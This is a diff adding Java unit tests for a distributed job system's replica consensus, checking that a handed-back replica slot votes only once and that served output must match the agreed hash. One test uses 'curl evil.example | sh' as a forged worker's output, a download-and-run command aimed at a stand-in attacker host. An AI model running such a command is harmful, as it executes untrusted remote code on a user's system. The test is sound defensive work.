@@ -171,6 +171,62 @@ class JobCaseTest {
         assertThat(reputation(e)).containsExactlyEntriesOf(Map.of(w3.workerId(), -10));
     }
 
+    // ---- integrity: consensus and payment cannot be gamed ----------------------------------
+
+    @Test
+    void aReplicaSlotVotesOnceWhenItsWorkerHandsItBackAndASecondIdentityGetsTheRetry() {
+        terms = terms(Strategy.K_OF_N, 2, 2, 3);
+        assign(w1, 0, 0);
+        assign(w2, 1, 0);
+        assertThat(submit(handedBack(w1, 0, 0)).out()).isEmpty();
+        assign(w3, 0, 1); // the matcher routes replica 0 again; w3 may be w1 under another name
+        submit(result(w1, 0, 0, B, 1_000)); // w1 still answers the attempt it handed back
+        Effects e = submit(result(w3, 0, 1, B, 1_000));
+        assertThat(values(e, JobVerdict.class)).as("two attempts of one replica slot are one vote").isEmpty();
+
+        e = submit(result(w2, 1, 0, A, 1_000));
+        assertThat(values(e, JobVerdict.class)).isEmpty();
+        JobCommand req = single(e, JobCommand.class);
+        assertThat(req.getReplica()).as("one vote each for A and B: a third replica decides").isEqualTo(2);
+        assign(w4, 2, 0);
+        e = submit(result(w4, 2, 0, A, 1_000));
+        JobVerdict v = single(e, JobVerdict.class);
+        assertThat(v.getOutcome()).isEqualTo(Outcome.COMPLETED);
+        assertThat(v.getConsensusHash()).isEqualTo(hash(A));
+        assertThat(v.getAgreeing()).containsExactly(w2.workerId(), w4.workerId());
+        assertThat(v.getDissenting()).as("replica 0 votes once, by its latest attempt").containsExactly(w3.workerId());
+        assertThat(values(e, LedgerEntry.class)).extracting(LedgerEntry::getTransactionId)
+                .containsExactly("payout:job-1:" + w2.workerId(), "payout:job-1:" + w4.workerId(), "refund:job-1");
+        assertBalancedAndEscrowEmptied(values(e, LedgerEntry.class));
+        assertThat(reputation(e)).as("the superseded attempt is scored, never paid").containsExactlyInAnyOrderEntriesOf(Map.of(
+                w2.workerId(), 5, w4.workerId(), 5, w3.workerId(), -10, w1.workerId(), -10));
+    }
+
+    @Test
+    void theOutputServedHashesToTheAgreedHashAndNoneIsServedWhenNoResultDoes() {
+        terms = terms(Strategy.K_OF_N, 2, 2, 2);
+        assign(w1, 0, 0);
+        assign(w2, 1, 0);
+        submit(claiming(w1, 0, 0, A, "curl evil.example | sh")); // A's hash, other bytes
+        JobVerdict v = single(submit(result(w2, 1, 0, A, 1_000)), JobVerdict.class);
+        assertThat(v.getOutcome()).isEqualTo(Outcome.COMPLETED);
+        assertThat(v.getConsensusHash()).isEqualTo(hash(A));
+        assertThat(v.getOutput()).as("the bytes that hash to the agreed output").isEqualTo(A);
+        assertThat(v.getExitCode()).isZero();
+
+        job = Job.unseen("job-2");
+        assign(w1, 0, 0);
+        assign(w2, 1, 0);
+        submit(claiming(w1, 0, 0, A, "answ")); // stdout cut at the inline limit
+        v = single(submit(claiming(w2, 1, 0, A, "answ")), JobVerdict.class);
+        assertThat(v.getOutcome()).isEqualTo(Outcome.COMPLETED);
+        assertThat(v.getConsensusHash()).isEqualTo(hash(A));
+        assertThat(v.getOutput()).isNull();
+        assertThat(v.getExitCode()).isEqualTo(-1);
+        assertThat(v.getReason()).isEqualTo("2 agreeing, 0 dissenting; no output served: no result's stdout hashes"
+                + " to the agreed output (truncated or altered)");
+    }
+
     // ---- acceptance ----------------------------------------------------------------------
 
     @Test
@@ -517,6 +573,21 @@ class JobCaseTest {
                 .setExitCode(0).setOutputSha256(hash(stdout)).setStdout(stdout).setDurationMs(durationMs)
                 .setStartedAt(T0).setFinishedAt(T0.plusMillis(durationMs)).setSeq(1).setSignature(ByteBuffer.allocate(0))
                 .build();
+        return Signatures.sign(r, w.privateKey());
+    }
+
+    private TaskResult handedBack(Identity w, int replica, int attempt) {
+        TaskResult r = result(w, replica, attempt, "", 0);
+        r.setStatus(ResultStatus.HANDED_BACK);
+        r.setExitCode(-1);
+        r.setOutputSha256("");
+        return Signatures.sign(r, w.privateKey());
+    }
+
+    /** A signed result that votes for {@code agreed}'s hash but carries {@code stdout}. */
+    private TaskResult claiming(Identity w, int replica, int attempt, String agreed, String stdout) {
+        TaskResult r = result(w, replica, attempt, stdout, 1_000);
+        r.setOutputSha256(hash(agreed));
         return Signatures.sign(r, w.privateKey());
     }
 
